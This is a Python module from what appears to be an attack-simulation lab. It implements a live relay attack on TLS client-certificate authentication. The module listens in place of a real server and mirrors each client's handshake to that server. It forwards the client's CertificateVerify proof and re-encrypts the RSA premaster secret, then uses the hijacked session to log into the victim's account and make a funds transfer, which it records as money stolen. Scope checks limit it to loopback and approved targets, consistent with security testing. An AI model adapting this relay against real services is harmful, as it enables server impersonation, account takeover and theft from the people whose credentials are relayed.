"""The leak `live-relay`: mallory is the server to a client that does not verify it, and a client of the real server at
the same time, and passes the client's proof on while it is fresh.

She makes the two handshakes as alike as she can. The client's hello becomes her own, and what the real server says
she says; then she holds the real server's handshake until the client has sent its Certificate and CertificateVerify,
and goes on with these. With RSA key transport she decrypts the client's premaster secret and encrypts the same one to
the real server: then both connections have the same keys, and differ in what the client signed all the same.
"""

import asyncio
import time
from collections.abc import Callable, Iterable
from contextlib import AsyncExitStack
from dataclasses import dataclass

import h11

from attacker import scope
from attacker.attempts import TRANSFER
from attacker.collected import Sight
from attacker.errors import AttackerError
from attacker.haul import Haul
from attacker.leak.mirror import RSA, key_exchange, messages_of, mirror_client, mirror_server, read_hello
from attacker.moves.make import Loot, fresh_key, look_alike_certificate
from attacker.moves.replay import Response, use_account, what_became
from attacker.position.tcp_relay import Forward
from lab.address import host_port
from lab.catalogue.outcomes import INCONCLUSIVE, NOT_APPLICABLE, NOT_ASKED
from lab.events.log import Reporter
from lab.events.types import PositionLeft, PositionTaken, ProofRelayed, Trouble
from lab.tls.bundle import Bundle
from lab.tls.client import Client
from lab.tls.engine import Failed
from lab.tls.flight import Flight, SendCertificate, SendChangeCipherSpec, SendFinished, SendKeyExchange, SendProof
from lab.tls.messages import CertificateVerify, ClientHello, ClientKeyExchange, ServerHello, serialize
from lab.tls.proof import Prover
from lab.tls.server import Server
from lab.tls.streams import ConnectionFailed, TlsStream
from lab.tls.versions import TLS13, version_name

KIND = "live-relay"
RELAY_SECONDS = 10.0
"""So long one connection may take."""
PATIENCE_SECONDS = 15.0
"""So long the attacker waits for the next one."""
CLIENTS_AT_ONCE = 64


@dataclass(frozen=True)
class Impersonation:
    """How mallory does the two things that nobody can do without a private key.

    `present` makes the key and certificate with which she is the server, out of the real one's chain; `prove` answers
    the real server with what the client has proved. The lab's controls put real keys here, and get in.
    """

    present: Callable[[tuple[bytes, ...]], Bundle]
    prove: Callable[[CertificateVerify], Prover]


def look_alike(chain: tuple[bytes, ...]) -> Bundle:
    """A certificate that says all that the real one says, for a key of her own."""
    key = fresh_key(chain[0])
    return Bundle((look_alike_certificate(chain[0], key), *chain[1:]), key)


def as_it_is(captured: CertificateVerify) -> Prover:
    """The client's proof, whatever the challenge is."""
    return lambda challenge: captured


WITHOUT_KEYS = Impersonation(look_alike, as_it_is)


async def relay_live(
    forwards: Iterable[Forward],
    relays: int,
    victim: str,
    haul: Haul,
    reporter: Reporter,
    impersonation: Impersonation = WITHOUT_KEYS,
) -> None:
    """Relays so many connections of clients, or until no more come for a while, and takes what they gave into the haul.

    OutOfScope or AttackerError, with nothing left open, where it cannot listen or may not go.
    """
    position = LiveRelay(victim, reporter, impersonation)
    try:
        reporter.report(PositionTaken(KIND, await position.start(forwards)))
        await position.wait_for(relays)
    finally:
        await position.close()
    reporter.report(PositionLeft(KIND, ()))
    for loot, sight in position.gained():
        haul.take(loot, sight)


class LiveRelay:
    """Listens in the place of servers and relays each client's proof to the one in whose place it came."""

    def __init__(self, victim: str, reporter: Reporter, impersonation: Impersonation = WITHOUT_KEYS) -> None:
        self._victim = victim
        self._reporter = reporter
        self._craft = impersonation
        self._gained: list[tuple[Loot, Sight]] = []
        self._places = asyncio.Semaphore(CLIENTS_AT_ONCE)
        self._done: asyncio.Queue[None] = asyncio.Queue()
        self._open = AsyncExitStack()
        self._tasks: set[asyncio.Task[None]] = set()

    async def start(self, forwards: Iterable[Forward]) -> tuple[str, ...]:
        """Listens, and describes where, a line for each forward. OutOfScope or AttackerError."""
        lines = []
        for forward in forwards:
            host, port = scope.check_loopback(*forward.listen)
            target = scope.check_target(*forward.target)
            try:
                listening = await asyncio.start_server(self._taker(target), host, port)
            except OSError as error:
                reason = f"cannot listen on {host_port((host, port))}: {error.strerror}; free it, or choose another"
                raise AttackerError(reason) from None
            self._open.push_async_callback(listening.wait_closed)
            self._open.callback(listening.close)
            lines.append(f"{host_port(listening.sockets[0].getsockname())} in the place of {host_port(target)}")
        return tuple(lines)

    async def wait_for(self, relays: int) -> None:
        """Waits for so many connections to be through, but for none longer than PATIENCE_SECONDS."""
        try:
            for _ in range(relays):
                async with asyncio.timeout(PATIENCE_SECONDS):
                    await self._done.get()
        except TimeoutError:
            self._reporter.report(Trouble(f"no further client came within {PATIENCE_SECONDS:.0f} s"))

    async def close(self) -> None:
        """Stops listening and breaks off what is open."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        await self._open.aclose()

    def gained(self) -> list[tuple[Loot, Sight]]:
        """The certificates with their proofs, those of TLS 1.2 first and of ephemeral keys before others."""
        return sorted(self._gained, key=lambda one: (one[1].tls, one[1].note))

    def _taker(self, target: tuple[str, int]) -> Callable[[asyncio.StreamReader, asyncio.StreamWriter], None]:
        def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            task = asyncio.get_running_loop().create_task(self._serve(target, reader, writer))
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)

        return take

    async def _serve(self, target: tuple[str, int], reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One client."""
        who = host_port(writer.get_extra_info("peername") or ("", 0))
        try:
            async with self._places, asyncio.timeout(RELAY_SECONDS):
                relayed = _Relayed(target, self._victim, self._craft)
                report = await relayed.carry_out(reader, writer)
            self._gained.append(relayed.gained(report))
            self._reporter.report(report)
        except ConnectionFailed as error:
            self._reporter.report(Trouble(f"no proof came from {who}: {error.failed.reason}"))
        except Exception as error:
            reason = str(error) or ("it took too long" if isinstance(error, TimeoutError) else type(error).__name__)
            self._reporter.report(Trouble(f"{who} was not relayed: {reason}"))
        finally:
            writer.transport.abort()
            self._done.put_nowait(None)


class _Relayed:
    """One client's connection and the one that is made of it."""

    def __init__(self, target: tuple[str, int], victim: str, impersonation: Impersonation) -> None:
        self._target = target
        self._victim = victim
        self._craft = impersonation
        self._client: Client
        self._server: Server

    async def carry_out(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> ProofRelayed:
        """All of it, in order. ConnectionFailed, TlsError or OSError where the client comes to no proof."""
        began = time.perf_counter()
        hello, received = await read_hello(reader)
        real_reader, real_writer = await asyncio.open_connection(*self._target)
        self._client = client = mirror_client(hello)
        real = TlsStream(client, real_reader, real_writer)
        try:
            await real.until(lambda: client.is_its_turn)

            self._server = server = mirror_server(client, self._craft.present(client.peer_chain))
            victim = TlsStream(server, reader, writer)
            await victim.take(server.receive(received))
            await victim.handshake()

            account, moved, failed = await self._go_on(real)
            await victim.close()
        finally:
            await real.close()
        return ProofRelayed(
            client=host_port(writer.get_extra_info("peername")),
            listening=host_port(writer.get_extra_info("sockname")),
            local=host_port(real_writer.get_extra_info("sockname")),
            server=host_port(self._target),
            tls=version_name(client.version or 0),
            key_exchange=key_exchange(client),
            customer=self._victim,
            client_random=client.random.hex(),
            same_keys=client.key_log == server.key_log,
            signed=_before_proof(server),
            checked=_before_proof(client),
            proof=serialize(self._proof()).hex(),
            outcome=NOT_APPLICABLE if client.request is None else what_became(account, self._victim, failed),
            alert=None if account else failed.alert,
            alert_by=None if account else failed.sent_by,
            status=account.status if account else None,
            body=account.body if account else None,
            stolen=TRANSFER.amount if moved and moved.status == 200 else 0,
            error=self._error(account, failed),
            milliseconds=round((time.perf_counter() - began) * 1000, 2),
        )

    def gained(self, report: ProofRelayed) -> tuple[Loot, Sight]:
        """What mallory has now."""
        server = self._server
        messages = {message.name: message for message in messages_of(server, "client")}
        certificate, hello = messages["Certificate"], messages["ClientHello"]
        assert isinstance(hello, ClientHello)
        *_, answer = (message for message in messages_of(server, "server") if isinstance(message, ServerHello))
        sight = Sight(
            client=report.client,
            server=report.listening,
            tls=report.tls,
            message=serialize(certificate),
            proof=self._proof(),
            transcript=tuple(map(bytes.fromhex, report.signed)),
            client_random=hello.random,
            server_random=answer.random,
            note=f"shown to mallory in the server's place; key exchange {report.key_exchange}",
        )
        return Loot(server.peer_chain, self._proof(), hello), sight

    async def _go_on(self, real: TlsStream) -> tuple[Response | None, Response | None, Failed]:
        """The handshake with the real server, with what the client has sent, and what it brings."""
        account: Response | None = None
        moved: Response | None = None
        failed = Failed(None, None, "no answer")
        try:
            await real.take(self._client.go_on(self._flight()))
            await real.handshake()
            if self._client.request is not None:
                host = self._server.server_name or self._target[0]
                account, moved = await use_account(real, host, self._victim, TRANSFER)
        except ConnectionFailed as error:
            failed = error.failed
        except h11.ProtocolError as error:
            failed = Failed(None, None, f"the answer is not HTTP: {error}")
        return account, moved, failed

    def _flight(self) -> Flight:
        """What the client has sent, as far as it can be sent on."""
        server = self._server
        certificate, proof = SendCertificate(server.peer_chain), SendProof(self._craft.prove(self._proof()))
        if self._client.version == TLS13:
            return (certificate, proof, SendFinished())
        exchange = SendKeyExchange()
        if key_exchange(self._client) == RSA:
            # To the same key it is the very same message; to another one the secret has to be encrypted anew.
            same = server.chain[0] == self._client.peer_chain[0]
            exchange = SendKeyExchange(server.premaster, self._encrypted_premaster() if same else None)
        return (certificate, exchange, proof, SendChangeCipherSpec(), SendFinished())

    def _encrypted_premaster(self) -> bytes:
        (exchange,) = (one for one in messages_of(self._server, "client") if isinstance(one, ClientKeyExchange))
        return exchange.encrypted_premaster()

    def _proof(self) -> CertificateVerify:
        """The client's; ConnectionFailed where it has sent none."""
        for message in messages_of(self._server, "client"):
            if isinstance(message, CertificateVerify):
                return message
        raise ConnectionFailed(Failed(None, None, "it sent a certificate and no proof"))

    def _error(self, account: Response | None, failed: Failed) -> str | None:
        if self._client.request is None:
            return NOT_ASKED
        if account:
            return None if account.status == 200 else f"HTTP {account.status}: {account.body}"
        return failed.reason if what_became(None, self._victim, failed) == INCONCLUSIVE else None


def _before_proof(engine: Client | Server) -> tuple[str, ...]:
    """The transcript that a proof is made over."""
    raws = []
    for entry in engine.transcript.entries:
        if entry.sender == "client" and entry.raw[0] == CertificateVerify.type:
            break
        raws.append(entry.raw.hex())
    return tuple(raws)
